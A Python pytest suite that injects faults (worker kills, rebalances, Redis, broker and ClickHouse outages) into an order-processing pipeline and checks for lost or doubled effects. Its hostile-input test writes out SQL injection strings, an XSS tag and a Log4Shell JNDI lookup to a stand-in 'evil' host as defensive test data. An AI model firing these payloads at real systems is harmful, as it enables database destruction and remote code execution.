"""Issue 11: faults injected mid-replay on the real broker, Redis and ClickHouse engine.

Each test produces a replay at a steady rate in a thread, injects one fault while orders are
in flight, lets the pipeline drain, and then accounts for every message (pipeline.devtools.replay's
exact reconciliation) and every effect (Redis reservations, ClickHouse rows). The figures
(orders, in flight at the fault, lost, doubled) are merged into benchmarks/results/reliability.json.

The broker and Redis are shared with every other test on this machine: their outages are kept
to seconds and both are brought back in a `finally`.
"""
from __future__ import annotations

import base64
import json
import os
import platform as host_platform
import random
import signal
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections import Counter, defaultdict
from datetime import datetime, timedelta, timezone

import pytest
from confluent_kafka import KafkaException

from pipeline import kafka_io
from pipeline.codecs import dead_letter_codec, order_codec
from pipeline.contracts import DroppedDuplicate, InventoryEvent
from pipeline.devtools import stack
from pipeline.config import PROJECT_ROOT
from pipeline.domain.normalize import CHINA_TZ
from pipeline.domain.platforms import SPECS, TimeFormat
from pipeline.devtools.fake_orders import SKUS, RawOrderFactory, ReplayMix, expected_order_id
from pipeline.inventory_store import InventoryStore
from pipeline.devtools.replay import ReplayConfig, group_lag, produce_replay, worker_inputs
from pipeline.domain import stock_ledger
from tests.stack.helpers import SINK_TABLES, distinct_facts, settle, sink_counts, sink_sql, wait_sunk

pytestmark = [pytest.mark.stack, pytest.mark.slow]

RESULTS = PROJECT_ROOT / "benchmarks" / "results" / "reliability.json"
# a steady stream of ~80 messages/s: long enough (~19 s) for a fault to land mid-replay
REPLAY = dict(count=1500, rate_per_min=4800, mix=ReplayMix(), drain_timeout_s=240)




# -- the report ---------------------------------------------------------------------------------

def record_fault(fault: str, orders: int, in_flight: int, lost: int, doubled: int, detail: dict) -> None:
    """Merge one fault's figures into the JSON report (partial runs keep the other faults)."""
    try:
        report = json.loads(RESULTS.read_text())
    except (FileNotFoundError, ValueError):
        report = {}
    faults = [f for f in report.get("faults", []) if f.get("fault") != fault]
    faults.append({"fault": fault, "orders": orders, "in_flight": in_flight, "lost": lost, "doubled": doubled,
                   "detail": detail, "at": datetime.now(timezone.utc).isoformat(timespec="seconds")})
    order = ["worker_sigkill", "sigkills_and_a_kill_during_a_join_exactly_once", "sigkills_and_a_kill_during_a_join_at_least_once",
             "crash_before-commit", "crash_after-commit", "zombie_fenced",
             "rebalance_join_leave", "redis_restart", "clickhouse_sink_killed",
             "broker_restart_at_least_once", "hostile_input"]
    faults.sort(key=lambda f: order.index(f["fault"]) if f["fault"] in order else len(order))
    report.update({
        "benchmark": "reliability",
        "faults": faults,
        "machine": {"cpu_count": os.cpu_count(), "python": sys.version.split()[0],
                    "platform": host_platform.platform()},
    })
    RESULTS.parent.mkdir(parents=True, exist_ok=True)
    RESULTS.write_text(json.dumps(report, indent=2, ensure_ascii=False, default=str) + "\n")


# -- replay with a fault --------------------------------------------------------------------------

def pipeline_lag(p) -> int:
    """Messages the worker group has not committed yet, over every pipeline input topic."""
    return group_lag(p.s, p.group, worker_inputs(p.names)) or 0


class FaultyReplay:
    """Produce a replay in a thread; `at(fraction)` blocks until that share of it is produced."""

    def __init__(self, p, cfg: ReplayConfig) -> None:
        self.p, self.cfg = p, cfg
        self.sent = 0
        self.result: dict = {}
        self.error: BaseException | None = None
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        try:
            messages, produced = produce_replay(self.p.s, self.p.names, self.cfg, progress=self._count)
            self.result.update(messages=messages, produced=produced)
        except BaseException as exc:  # surfaced by finish()
            self.error = exc

    def _count(self, n: int) -> None:
        self.sent += n

    def start(self) -> "FaultyReplay":
        self.thread.start()
        return self

    def at(self, fraction: float, timeout: float = 120.0) -> None:
        deadline = time.monotonic() + timeout
        while self.sent < fraction * self.cfg.count and self.thread.is_alive():
            if time.monotonic() > deadline:
                raise TimeoutError(f"replay stuck at {self.sent} messages")
            time.sleep(0.05)

    def finish(self, timeout: float = 300.0):
        self.thread.join(timeout)
        if self.error is not None:
            raise self.error
        assert not self.thread.is_alive(), "the replay producer did not finish"
        return self.result["messages"], self.result["produced"]


LOSS_FIELDS = ("raw_lost", "missing_new_orders", "unaccounted_new_orders", "accepted_without_outcome")


def lost_of(report: dict) -> int:
    return (report["raw_lost"] + report["missing_new_orders"] + report["unaccounted_new_orders"]
            + report["accepted_without_outcome"])


def account_for(p, fault: str, messages, report: dict, in_flight: int, **detail) -> None:
    """Record the fault's figures (benchmarks/results/reliability.json), then hold the run to
    exactly-once effects and a live pipeline."""
    audit = reservation_audit(p)
    record_fault(fault, len(messages), in_flight, lost_of(report), doubled_of(report, audit),
                 {**detail, **summary(report), "redis": audit})
    assert_exactly_once(report, audit)
    p.check_alive()


def summary(report: dict) -> dict:
    keys = ("produced", "unique_new_orders", "dead_lettered", "held", "auto_released",
            "reserved", "units_reserved", "out_of_stock", "released", "balanced")
    return {**{k: report[k] for k in keys},
            # at-least-once re-deliveries, absorbed downstream (not doubled effects)
            "raw_reprocessed": report["raw_doubled"], "new_orders_reemitted": report["new_orders_emitted_twice"]}


def reservation_audit(p) -> dict:
    """Effects exactly once: Redis holds, per order and per warehouse/SKU cell, exactly what the
    inventory events say (pipeline.domain.stock_ledger: reserved, expired, re-reserved, released,
    shipped; a re-published event carries the same allocation), and no cell is oversold
    (reserved + locked + presale <= total)."""
    events = [InventoryEvent.decode(r.value).as_dict() for r in p.read(p.names.INVENTORY_EVENTS)]
    ledgers = stock_ledger.fold(events)
    reserved_orders = {oid for oid, ledger in ledgers.items() if "reserved" in ledger.kinds}
    expected_cells, expected_shipped = stock_ledger.expected_cells(ledgers.values())
    with InventoryStore(p.s.redis, prefix=f"{p.ns}inv") as store:
        levels = {sku: store.stock_by_warehouse(sku) for sku in SKUS}
        records = store.reservations(ledgers)
    actual_cells: Counter = Counter()
    actual_shipped: Counter = Counter()
    oversold = []
    for sku in SKUS:
        for wh, level in levels[sku].items():
            if level.reserved:
                actual_cells[(wh, sku)] = level.reserved
            if level.shipped:
                actual_shipped[(wh, sku)] = level.shipped
            if level.reserved + level.locked + level.presale > level.total:
                oversold.append(f"{wh}:{sku}")
    record_mismatch = [oid for oid, ledger in ledgers.items() if not stock_ledger.record_agrees(ledger, records[oid])]
    inconsistent = {oid for oid, ledger in ledgers.items() if ledger.inconsistent}
    cell_diff = {f"{wh}:{sku}": (actual_cells[(wh, sku)], +expected_cells[(wh, sku)],
                                 actual_shipped[(wh, sku)], expected_shipped[(wh, sku)])
                 for wh, sku in set(actual_cells) | set(+expected_cells) | set(actual_shipped) | set(expected_shipped)
                 if (actual_cells[(wh, sku)], actual_shipped[(wh, sku)]) != (expected_cells[(wh, sku)],
                                                                             expected_shipped[(wh, sku)])}
    return {"orders_reserved": len(reserved_orders),
            "released": sum(1 for ledger in ledgers.values() if "released" in ledger.kinds),
            "shipped": sum(1 for ledger in ledgers.values() if "shipped" in ledger.kinds),
            "inconsistent_events": sorted(inconsistent)[:5], "record_mismatch": sorted(record_mismatch)[:5],
            "record_mismatches": len(record_mismatch), "cell_diff": dict(list(cell_diff.items())[:5]),
            "cells_differing": len(cell_diff), "oversold": oversold,
            "units_reserved_in_redis": sum(actual_cells.values()),
            "units_expected": sum(expected_cells.values()),
            "units_shipped_in_redis": sum(actual_shipped.values()),
            "units_shipped_expected": sum(expected_shipped.values())}


def doubled_of(report: dict, audit: dict) -> int:
    """Doubled effects: orders whose stock Redis holds wrongly (twice, or not at all), or whose
    reservation events disagree. A re-emitted message is not an effect (see summary())."""
    return audit["record_mismatches"] + len(audit["inconsistent_events"]) + audit["cells_differing"]


def assert_exactly_once(report: dict, audit: dict) -> None:
    """Nothing lost, effects once. Messages may be re-emitted (at-least-once): Faust drops the
    acked offsets of revoked partitions before committing, so up to a commit interval of
    orders.unique output is produced again by the new owner; Redis and the sink absorb it."""
    assert lost_of(report) == 0, {k: v for k, v in report.items() if k in LOSS_FIELDS or k.endswith("_sample")}
    assert report["unique_new_orders"] == report["expected_new_orders"], report
    assert report["awaiting_decision"] == 0, report
    assert not audit["inconsistent_events"] and audit["record_mismatches"] == 0, audit
    assert audit["cells_differing"] == 0 and audit["units_reserved_in_redis"] == audit["units_expected"], audit
    assert audit["units_shipped_in_redis"] == audit["units_shipped_expected"], audit
    assert not audit["oversold"], audit
    assert audit["orders_reserved"] > 0


def scrape_counter(url: str, name: str) -> float:
    from prometheus_client.parser import text_string_to_metric_families

    with urllib.request.urlopen(f"{url}/metrics", timeout=10) as resp:
        text = resp.read().decode()
    return sum(s.value for fam in text_string_to_metric_families(text) for s in fam.samples if s.name == name)


# -- ClickHouse helpers ------------------------------------------------------------------------------

def duplicate_rows(p) -> dict[str, int]:
    """Rows landed more than once, by Kafka coordinates and by natural key."""
    out = {}
    for table in SINK_TABLES:
        out[f"{table}_by_offset"] = int(sink_sql(p, f"""
            SELECT count() AS n FROM (SELECT src_topic, src_partition, src_offset, count() AS c FROM {table}
                                      GROUP BY src_topic, src_partition, src_offset HAVING c > 1)""")[0]["n"])
    for table, key in (("order_events", "order_id, status, updated_at, change"),
                       ("risk_events", "order_id, event, at"), ("inventory_events", "order_id, event")):
        out[f"{table}_by_fact"] = int(sink_sql(p, f"""
            SELECT count() AS n FROM (SELECT {key}, count() AS c FROM {table} GROUP BY {key} HAVING c > 1)""")[0]["n"])
    return out


# -- a. a worker SIGKILLed and restarted (test_dedupe_e2e has the burst version) --------------------

def test_worker_sigkill_and_restart_loses_and_doubles_nothing(pipeline_factory):
    p = pipeline_factory(ORDERSTREAM_RISK_HOLD_TIMEOUT_S="2")
    p.start_worker(0)
    replay = FaultyReplay(p, ReplayConfig(seed=505, **REPLAY)).start()
    replay.at(0.4)
    in_flight = pipeline_lag(p)
    p.procs["worker-0"].kill()             # no shutdown hooks, no final commit
    p.start_worker(0)
    messages, produced = replay.finish()
    account_for(p, "worker_sigkill", messages, settle(p, messages, produced), in_flight)


# -- a2. issue 25: two SIGKILLs and a second worker joining, under a hostile mix --------------------

HOSTILE_MIX = ReplayMix(redelivery=0.25, update=0.2, malformed=0.05, ip_burst=0.05)
COMMIT_INTERVAL_S = 1.0   # the worker's Faust commit interval (ORDERSTREAM_COMMIT_INTERVAL_S)


def healed_stalls(p) -> float:
    """The commit watchdog's re-reads and adoptions on every live worker (its last resort)."""
    return sum(scrape_counter(p.worker_url(int(name.split("-")[1])), "orderstream_commit_stalls_healed_total")
               for name, proc in p.procs.items() if name.startswith("worker-") and proc.alive())


JOIN_UNDER_WAY_S = 4.0  # a new worker process imports, starts Faust and sends its JoinGroup in about this long


def _record_failure(failed: list, call, *args) -> None:
    try:
        call(*args)
    except BaseException as exc:  # noqa: BLE001 - handed to the test's thread
        failed.append(exc)


@pytest.mark.parametrize("guarantee", ["exactly_once", "at_least_once"])
def test_sigkills_and_a_worker_killed_while_another_joins(pipeline_factory, guarantee):
    """Issue 25: two SIGKILLs and restarts, then a second worker joins and the first is killed
    while it does (restarted after). Both modes: nothing lost, effects once, and a restarted worker starts at the
    committed offset (no skip: the watchdog never re-reads). Exactly-once: a read_committed reader
    sees every output once on every output topic. At-least-once: after each kill a worker re-does
    at most what the killed one had acked since its last commit plus the batch in flight (a commit
    interval of intake plus a batch)."""
    from agents.orders import BATCH_MAX

    p = pipeline_factory(ORDERSTREAM_RISK_HOLD_TIMEOUT_S="2", ORDERSTREAM_COMMIT_INTERVAL_S=str(COMMIT_INTERVAL_S),
                         ORDERSTREAM_PROCESSING_GUARANTEE=guarantee)
    p.start_worker(0)
    cfg = ReplayConfig(seed=2525, count=3000, rate_per_min=4800, mix=HOSTILE_MIX, drain_timeout_s=240)
    replay = FaultyReplay(p, cfg).start()
    kills = 0
    for fraction in (0.3, 0.6):
        replay.at(fraction)
        p.procs["worker-0"].kill()         # no shutdown hooks, no final commit
        kills += 1
        p.start_worker(0)
    replay.at(0.8)
    failed: list[BaseException] = []
    joining = threading.Thread(target=lambda: _record_failure(failed, p.start_worker, 1))
    joining.start()                        # a second worker joins: partitions move ...
    time.sleep(JOIN_UNDER_WAY_S)
    p.procs["worker-0"].kill()             # ... and the first dies while it does
    kills += 1
    joining.join()
    assert not failed, failed
    p.start_worker(0)
    messages, produced = replay.finish()
    report = settle(p, messages, produced)
    bound = kills * (cfg.rate_per_min / 60 * COMMIT_INTERVAL_S + BATCH_MAX)
    healed = healed_stalls(p)
    doubles = report["doubles_by_topic"]
    account_for(p, f"sigkills_and_a_kill_during_a_join_{guarantee}", messages, report, pipeline_lag(p), kills=kills,
                reprocessed_bound=bound, watchdog_healed=healed, doubles_by_topic=doubles)
    assert healed == 0, f"the commit watchdog had to heal {healed} stalls: a restart skipped a message"
    if guarantee == "exactly_once":
        assert_every_output_once(report)
    else:
        assert report["raw_doubled"] <= bound, (report["raw_doubled"], bound, doubles)


def assert_every_output_once(report: dict) -> None:
    doubles = report["doubles_by_topic"]
    assert doubles == dict.fromkeys(doubles, 0), doubles
    assert report["raw_doubled"] == 0 and report["new_orders_emitted_twice"] == 0, report


def wait_exit(proc, timeout: float = 120.0) -> None:
    deadline = time.monotonic() + timeout
    while proc.alive():
        if time.monotonic() > deadline:
            raise TimeoutError(f"{proc.name} did not reach its crash point")
        time.sleep(0.2)


@pytest.mark.parametrize("point", ["before-commit", "after-commit"])
def test_a_worker_killed_at_each_transaction_step_doubles_and_loses_nothing(pipeline_factory, point):
    """Exactly-once, killed between the outputs' flush and the commit (the transaction must abort:
    its outputs never reach a read_committed reader) and between the commit and Faust's ack (the
    restarted worker must not do the batch again)."""
    p = pipeline_factory(ORDERSTREAM_RISK_HOLD_TIMEOUT_S="2")
    replay = FaultyReplay(p, ReplayConfig(seed=77, count=1500, rate_per_min=4800, mix=HOSTILE_MIX,
                                          drain_timeout_s=240)).start()
    p.start_worker(0, ORDERSTREAM_CRASH_AT=f"order-flow:{point}:40")
    wait_exit(p.procs["worker-0"])
    in_flight = pipeline_lag(p)
    p.start_worker(0)
    messages, produced = replay.finish()
    report = settle(p, messages, produced)
    account_for(p, f"crash_{point}", messages, report, in_flight, doubles_by_topic=report["doubles_by_topic"])
    assert_every_output_once(report)


def test_a_zombie_worker_is_fenced_and_a_timed_out_transaction_aborts(pipeline_factory):
    """A worker frozen (SIGSTOP) past both its transaction time-out and its session: the broker
    aborts its open transaction and the group gives its partitions to the second worker. Woken up,
    its late commit is refused (an old producer epoch, an old generation); nothing it did counts twice."""
    p = pipeline_factory(ORDERSTREAM_RISK_HOLD_TIMEOUT_S="2", ORDERSTREAM_TRANSACTION_TIMEOUT_S="3")
    p.start_worker(0)
    replay = FaultyReplay(p, ReplayConfig(seed=91, count=2000, rate_per_min=6000, mix=HOSTILE_MIX,
                                          drain_timeout_s=240)).start()
    replay.at(0.3)
    zombie = p.procs["worker-0"]
    zombie.kill(signal.SIGSTOP)
    try:
        p.start_worker(1)                  # ready once the group has moved on without the frozen one
    finally:
        zombie.kill(signal.SIGCONT)
    messages, produced = replay.finish()
    report = settle(p, messages, produced)
    aborted = sum(scrape_counter(p.worker_url(i), "orderstream_transactions_aborted_total") for i in (0, 1))
    account_for(p, "zombie_fenced", messages, report, pipeline_lag(p), doubles_by_topic=report["doubles_by_topic"],
                transactions_aborted=aborted)
    assert_every_output_once(report)


# -- b. rebalance ------------------------------------------------------------------------------------

def test_rebalance_join_and_leave_loses_and_doubles_nothing(pipeline_factory):
    p = pipeline_factory(ORDERSTREAM_RISK_HOLD_TIMEOUT_S="2")
    p.start_worker(0)
    replay = FaultyReplay(p, ReplayConfig(seed=101, **REPLAY)).start()
    replay.at(0.25)
    lag_join = pipeline_lag(p)
    p.start_worker(1)                      # join: partitions move to the new member
    replay.at(0.6)
    lag_leave = pipeline_lag(p)
    p.procs.pop("worker-0").stop()         # leave: SIGTERM, worker 1 takes everything
    messages, produced = replay.finish()
    account_for(p, "rebalance_join_leave", messages, settle(p, messages, produced), max(lag_join, lag_leave),
                in_flight_at_join=lag_join, in_flight_at_leave=lag_leave)


# -- c. Redis restarted ---------------------------------------------------------------------------------

def restart_redis(s, down_s: float) -> float:
    """SIGTERM the project's redis-server (it fsyncs its append-only file), keep it down for
    `down_s`, start it again. Returns the measured outage in seconds."""
    pid_file = s.var / "run" / "redis.pid"
    started = time.monotonic()
    try:
        assert stack.stop_pid_file(pid_file, timeout=10, sig=signal.SIGTERM), "redis-server was not running"
        time.sleep(down_s)
    finally:
        stack.redis_up(s)
    return time.monotonic() - started


def test_redis_restart_pauses_reservations_and_oversells_nothing(pipeline_factory):
    p = pipeline_factory(ORDERSTREAM_RISK_HOLD_TIMEOUT_S="2")
    p.start_worker(0)
    replay = FaultyReplay(p, ReplayConfig(seed=202, **REPLAY)).start()
    replay.at(0.4)
    in_flight = pipeline_lag(p)
    retries_before = scrape_counter(p.worker_url(), "orderstream_redis_retries_total")
    outage_s = restart_redis(p.s, down_s=2.0)
    back_at_ms = int(time.time() * 1000)
    messages, produced = replay.finish()
    report = settle(p, messages, produced)
    retries = scrape_counter(p.worker_url(), "orderstream_redis_retries_total") - retries_before
    audit = reservation_audit(p)
    events = [InventoryEvent.decode(r.value).as_dict() for r in p.read(p.names.INVENTORY_EVENTS)]
    reserved_after = sum(1 for e in events if e["event"] == "reserved" and e["at_ms"] > back_at_ms)
    record_fault("redis_restart", len(messages), in_flight, lost_of(report), doubled_of(report, audit),
                 {"outage_s": round(outage_s, 2), "redis_retries": retries,
                  "reservations_after_restart": reserved_after, "oversold_cells": len(audit["oversold"]),
                  **summary(report), "redis": audit})
    assert retries > 0, "the worker never noticed Redis was down: the fault did not hit"
    assert reserved_after > 0, "reservations did not continue after Redis came back"
    assert_exactly_once(report, audit)
    p.check_alive()


# -- d. the ClickHouse sink failing ------------------------------------------------------------------

def test_sink_killed_mid_replay_lands_every_fact_once(pipeline_factory):
    p = pipeline_factory(ORDERSTREAM_RISK_HOLD_TIMEOUT_S="2")
    p.start_worker(0)
    p.start_sink()
    replay = FaultyReplay(p, ReplayConfig(seed=303, **REPLAY)).start()
    replay.at(0.4)
    before = sink_counts(p)
    topic_total = sum(kafka_io.end_offsets(p.s, [p.names.UNIQUE, p.names.RISK_EVENTS, p.names.INVENTORY_EVENTS,
                                                 p.names.DLQ, p.names.CHANNEL_CONTROL,
                                                 p.names.BREAKER_EVENTS]).values())
    p.procs.pop("sink").kill()             # SIGKILL: buffered rows and the in-progress insert die with it
    time.sleep(5)                          # ClickHouse "down" while the pipeline keeps producing facts
    p.start_sink()
    messages, produced = replay.finish()
    report = settle(p, messages, produced)
    expected = distinct_facts(p)
    got = wait_sunk(p, expected)
    dupes = duplicate_rows(p)
    missing = sum(max(0, expected[t] - got.get(t, 0)) for t in expected)
    extra = sum(max(0, got.get(t, 0) - expected[t]) for t in expected) + sum(dupes.values())
    record_fault("clickhouse_sink_killed", len(messages), max(0, topic_total - sum(before.values())), missing,
                 extra, {"rows_before_kill": before, "rows_expected": expected, "rows_landed": got,
                         "duplicates": dupes, "sink_down_s": 5, **summary(report)})
    assert lost_of(report) == 0, {k: v for k, v in report.items() if k in LOSS_FIELDS or k.endswith("_sample")}
    assert got == expected, f"landed {got}, distinct facts in the topics {expected}"
    assert not any(dupes.values()), dupes
    assert sum(before.values()) > 0, "the sink was killed before it had landed anything"


# -- e. hostile input -----------------------------------------------------------------------------------

INJECTION = "'); DROP TABLE order_events; --"
INJECTIONS = (INJECTION, "1' OR '1'='1", "Robert'); DROP TABLE risk_events;--", "{order_id:String}",
              "\\'; SELECT * FROM system.users; --", "<script>alert(1)</script>", "${jndi:ldap://evil/x}")


def put(obj: dict, path: str, value) -> None:
    """Set a platform field by its spec path (first alternative)."""
    keys = path.split("|")[0].split(".")
    for key in keys[:-1]:
        obj = obj.setdefault(key, {})
    obj[keys[-1]] = value


def as_time(platform: str, dt: datetime):
    fmt = SPECS[platform].time_format
    if fmt is TimeFormat.EPOCH_S:
        return int(dt.timestamp())
    if fmt is TimeFormat.EPOCH_MS:
        return int(dt.timestamp() * 1000)
    if fmt is TimeFormat.CN_LOCAL:
        return dt.astimezone(CHINA_TZ).strftime("%Y-%m-%d %H:%M:%S")
    return dt.astimezone(CHINA_TZ).isoformat()


def dumps(obj) -> bytes:
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":")).encode()


def hostile_messages(now: datetime) -> list[dict]:
    """(platform, label, value, expect, reason): expect is dlq, canonical or either."""
    f = RawOrderFactory(seed=666, start=now)
    rng = random.Random(666)
    out: list[dict] = []

    def add(platform, label, value, expect, reason=None, **extra):
        out.append({"platform": platform, "label": label, "value": value, "expect": expect, "reason": reason,
                    **extra})

    plats = sorted(SPECS)
    # fuzzed bytes, and valid orders with bytes flipped
    for i in range(40):
        add(plats[i % 7], f"fuzz-{i}", bytes(rng.randrange(256) for _ in range(rng.randrange(1, 3000))), "either")
    for i in range(30):
        data = bytearray(RawOrderFactory.to_bytes(f.order(plats[i % 7])))
        for _ in range(rng.randint(1, 6)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        add(plats[i % 7], f"flipped-{i}", bytes(data), "either")
    add("JD", "empty", b"", "dlq")
    add("TMALL", "tombstone", None, "dlq")
    # deep nesting
    add("JD", "nest-100k", b"[" * 100_000 + b"]" * 100_000, "dlq", "too_deep")
    deep = f.order("TMALL")
    nested: dict = {}
    for _ in range(60):
        nested = {"x": nested}
    deep["ext_info"] = nested
    add("TMALL", "nest-in-order", dumps(deep), "dlq", "too_deep")
    # huge strings and sizes
    big = f.order("JD")
    put(big, SPECS["JD"].buyer_name, "王" * 200_000)
    add("JD", "huge-name", dumps(big), "dlq", "oversized")   # 600 KB of UTF-8 is over the 256 KB limit
    long_note = f.order("DOUYIN")
    put(long_note, SPECS["DOUYIN"].note, "x" * 50_000)
    add("DOUYIN", "long-note", dumps(long_note), "dlq", "field_too_long")
    many_lines = f.order("PINDUODUO", skus=[("SKU-0001", 1)] * 600)
    add("PINDUODUO", "600-lines", dumps(many_lines), "dlq")
    # wrong encodings
    valid = f.order("TMALL", province="浙江")
    add("TMALL", "utf16", json.dumps(valid, ensure_ascii=False).encode("utf-16"), "dlq", "bad_encoding")
    add("TMALL", "gbk", json.dumps(valid, ensure_ascii=False).encode("gbk"), "dlq", "bad_encoding")
    add("TMALL", "bom", b"\xef\xbb\xbf" + dumps(valid), "dlq")
    add("TMALL", "overlong-utf8", dumps(valid).replace(b'"', b'\xc0\xa2', 1), "dlq", "bad_encoding")
    surrogate = json.dumps(f.order("JD")).replace('"pin"', '"pin":"\\ud800","x"', 1).encode()
    add("JD", "lone-surrogate", surrogate, "dlq", "bad_encoding")
    latin1 = json.dumps({**f.order("SHOPEE"), "note": "café"}, ensure_ascii=False).encode("latin-1", "replace")
    add("SHOPEE", "latin1", latin1, "dlq", "bad_encoding")
    # numeric overflow
    shopee = dumps(f.order("SHOPEE")).decode()
    total_field = SPECS["SHOPEE"].total
    for label, literal in (("1e400", "1e400"), ("NaN", "NaN"), ("-Infinity", "-Infinity"), ("10^40", "1" + "0" * 40)):
        obj = json.loads(shopee)
        obj[total_field] = "__N__"
        add("SHOPEE", f"total-{label}", dumps(obj).replace(b'"__N__"', literal.encode()), "dlq")
    pdd = f.order("PINDUODUO")
    put(pdd, SPECS["PINDUODUO"].total, 10 ** 40)
    add("PINDUODUO", "fen-10^40", dumps(pdd), "dlq", "bad_amount")
    qty = f.order("DOUYIN")
    qty[SPECS["DOUYIN"].lines.items][0][SPECS["DOUYIN"].lines.quantity] = 10 ** 30
    add("DOUYIN", "quantity-10^30", dumps(qty), "dlq", "bad_amount")
    jd_money = f.order("JD")
    put(jd_money, SPECS["JD"].total, "99999999999999999999999.99")
    add("JD", "yuan-overflow", dumps(jd_money), "dlq", "bad_amount")
    # timestamps far in the past or future
    for plat, label, value in (("DOUYIN", "epoch-0", 0), ("DOUYIN", "epoch-10^30", 10 ** 30),
                               ("KUAISHOU", "ms-year-10000", 253_402_300_800_000),
                               ("JD", "cn-9999", "9999-12-31 23:59:59"), ("JD", "cn-feb-30", "2026-02-30 10:00:00"),
                               ("SHOPIFY", "iso-0001", "0001-01-01T00:00:00+14:00"),
                               ("SHOPIFY", "iso-9999", "9999-12-31T23:59:59-12:00")):
        o = f.order(plat)
        put(o, SPECS[plat].created, value)
        add(plat, f"time-{label}", dumps(o), "dlq", "bad_time")
    for plat in ("TMALL", "KUAISHOU"):
        o = f.order(plat)
        put(o, SPECS[plat].created, as_time(plat, now + timedelta(days=400)))
        add(plat, f"time-future-{plat}", dumps(o), "dlq", "bad_time")
        o = f.order(plat)
        put(o, SPECS[plat].created, as_time(plat, datetime(1970, 1, 2, tzinfo=timezone.utc)))
        add(plat, f"time-1970-{plat}", dumps(o), "dlq", "bad_time")
    # injection-looking text in names, notes, addresses and ids: valid orders, stored as data
    for i, text in enumerate(INJECTIONS):
        plat = ("JD", "DOUYIN", "TMALL")[i % 3]
        spec = SPECS[plat]
        o = f.order(plat, province="广东", note=text)
        put(o, spec.buyer_name, text)
        put(o, spec.province, text)
        put(o, spec.detail, text)
        put(o, spec.buyer_id, text)
        add(plat, f"injection-{i}", dumps(o), "canonical", order_id=expected_order_id(plat, o),
            province=text, buyer_id=text)
    ghost = f.order("JD")
    put(ghost, SPECS["JD"].order_id, "1'; DROP TABLE order_events; --")
    add("JD", "injection-order-id", dumps(ghost), "canonical", order_id=expected_order_id("JD", ghost))
    add("KUAISHOU", "injection-raw-text", f"{INJECTION}".encode(), "dlq", "malformed_json")
    return out


def test_hostile_input_never_crashes_and_never_executes(pipeline_factory):
    p = pipeline_factory()
    p.start_worker(0)
    p.start_sink()
    msgs = hostile_messages(datetime.now(timezone.utc))
    producer = kafka_io.producer(p.s, **{"message.max.bytes": 2_000_000})
    coords: dict[str, int] = {}
    failures = []

    def delivered(i):
        def done(err, m):
            if err is not None:
                failures.append(f"{msgs[i]['label']}: {err}")
            else:
                coords[f"{m.topic()}:{m.partition()}:{m.offset()}"] = i
        return done

    for i, m in enumerate(msgs):
        producer.produce(p.names.raw(m["platform"]), key=m["label"].encode(), value=m["value"],
                         on_delivery=delivered(i))
        producer.poll(0)
    producer.flush(60)
    assert not failures, failures
    p.drain(timeout=120)
    p.check_alive()  # the worker and the sink survived everything

    codec, dl_codec = order_codec(), dead_letter_codec()
    came_out: dict[int, list] = defaultdict(list)
    for r in p.read(p.names.UNIQUE):
        came_out[coords[r.headers["src"].decode()]].append(("canonical", codec.decode(r.value)))
    for r in p.read(p.names.DUPLICATES):  # a hostile message may repeat an earlier one's content
        came_out[coords[r.headers["src"].decode()]].append(("canonical", DroppedDuplicate.decode(r.value).as_dict()))
    for r in p.read(p.names.DLQ):
        came_out[coords[r.headers["src"].decode()]].append(("dlq", dl_codec.decode(r.value)))
    lost = [m["label"] for i, m in enumerate(msgs) if not came_out[i]]
    doubled = [m["label"] for i, m in enumerate(msgs) if len(came_out[i]) > 1]
    outcomes = Counter(came_out[i][0][0] for i in range(len(msgs)) if came_out[i])
    wrong = []
    for i, m in enumerate(msgs):
        if not came_out[i]:
            continue
        where, body = came_out[i][0]
        if m["expect"] != "either" and where != m["expect"]:
            wrong.append(f"{m['label']}: expected {m['expect']}, got {where}")
        elif where == "dlq" and m["reason"] and body["reason_code"] != m["reason"]:
            wrong.append(f"{m['label']}: reason {body['reason_code']} ({body['reason'][:80]}), expected {m['reason']}")
        elif where == "dlq" and body["payload"] != (m["value"] or b""):
            wrong.append(f"{m['label']}: dead letter does not keep the original bytes")
        elif where == "canonical" and m.get("order_id") and body["order_id"] != m["order_id"]:
            wrong.append(f"{m['label']}: order id {body['order_id']} != {m['order_id']}")

    # ClickHouse: the hostile text is stored as data; every table still exists
    expected = distinct_facts(p)
    got = wait_sunk(p, expected)
    tables = {r["name"] for r in sink_sql(p, "SELECT name FROM system.tables WHERE database = currentDatabase()")}
    stored = []
    for m in msgs:
        if m.get("province"):
            rows = sink_sql(p, f"SELECT province, buyer_id FROM order_events WHERE order_id = '{m['order_id']}'")
            stored.append(rows == [{"province": m["province"], "buyer_id": m["buyer_id"]}])
    raw_letter = next(m for m in msgs if m["label"] == "injection-raw-text")
    payloads = {r["payload_b64"] for r in sink_sql(p, "SELECT payload_b64 FROM dead_letters")}
    record_fault("hostile_input", len(msgs), len(msgs), len(lost), len(doubled),
                 {"canonical": outcomes["canonical"], "dead_lettered": outcomes["dlq"], "unexpected": wrong,
                  "lost": lost, "doubled": doubled, "injection_rows_verbatim": f"{sum(stored)}/{len(stored)}",
                  "tables_intact": set(SINK_TABLES) <= tables, "sink_rows": got})
    assert not lost and not doubled, (lost, doubled)
    assert not wrong, wrong
    assert outcomes["canonical"] >= len(INJECTIONS) + 1 and outcomes["dlq"] > 40
    assert got == expected, (got, expected)
    assert set(SINK_TABLES) <= tables
    assert stored and all(stored), "injection text was not stored verbatim"
    assert base64.b64encode(raw_letter["value"]).decode() in payloads
    assert int(sink_sql(p, "SELECT count() AS n FROM order_events")[0]["n"]) == expected["order_events"]


# -- f. the broker restarted (last: afterwards the shared broker reloads every partition) -------------

def restart_broker(s) -> float:
    """SIGTERM the shared broker, wait for it to exit, start it again at once (in a finally)."""
    pid_file = s.var / "run" / "kafka.pid"
    started = time.monotonic()
    try:
        assert stack.stop_pid_file(pid_file, timeout=30, sig=signal.SIGTERM), "the broker was not running"
    finally:
        stack.kafka_up(s, timeout=120)
    return time.monotonic() - started


def wait_broker_serving(p, timeout: float = 120.0) -> float:
    """"Healthy" (metadata answers) comes before every partition has its leader again; wait
    until this pipeline's offsets and group offsets can be read."""
    started = time.monotonic()
    while True:
        try:
            kafka_io.end_offsets(p.s, list(p.names.ALL_TOPICS))
            pipeline_lag(p)
            return time.monotonic() - started
        except KafkaException:
            if time.monotonic() - started > timeout:
                raise
            time.sleep(1)


@pytest.mark.parametrize("guarantee", [
    "at_least_once",
